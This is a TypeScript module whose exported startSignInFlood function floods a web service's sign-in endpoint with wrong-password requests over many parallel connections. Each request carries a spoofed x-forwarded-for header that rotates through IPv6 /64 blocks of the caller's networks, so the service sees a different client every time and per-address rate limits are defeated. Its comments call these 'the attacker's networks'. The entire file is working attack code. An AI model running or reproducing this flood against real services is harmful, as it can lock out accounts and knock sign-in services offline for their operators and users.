import { Agent, request } from 'node:http';

type Target = {
  readonly url: string;
  /** The attacker's networks, each as the first 48 bits of IPv6 addresses, such as `2001:db8:1`. The service must trust the sender as a proxy. */
  readonly networks: readonly string[];
  readonly connections?: number;
};

export type SignInFlood = {
  readonly sent: () => number;
  readonly stop: () => Promise<void>;
};

const BODY = JSON.stringify({ email: 'nobody@example.org', password: 'a wrong password' });

/** Signs in with wrong passwords without a pause on many connections, each time from another /64 of the networks. */
export async function startSignInFlood({ url, networks, connections = 50 }: Target): Promise<SignInFlood> {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  let isOver = false;
  let sent = 0;
  const send = (from: string): Promise<void> =>
    new Promise((resolve) => {
      const headers = { 'content-type': 'application/json', 'x-forwarded-for': from, 'content-length': BODY.length };
      const sending = request(`${url}/api/v1/session`, { method: 'POST', agent, headers }, (response) => {
        response.resume().once('close', resolve);
      });
      sending.once('error', () => resolve());
      sending.end(BODY);
    });
  const attack = async (): Promise<void> => {
    while (!isOver) {
      const network = networks[sent % networks.length]!;
      sent++;
      await send(`${network}:${(sent % 65_536).toString(16)}::1`);
    }
  };
  const running = Array.from({ length: connections }, attack);
  return {
    sent: () => sent,
    stop: async () => {
      isOver = true;
      agent.destroy();
      await Promise.all(running);
    },
  };
}
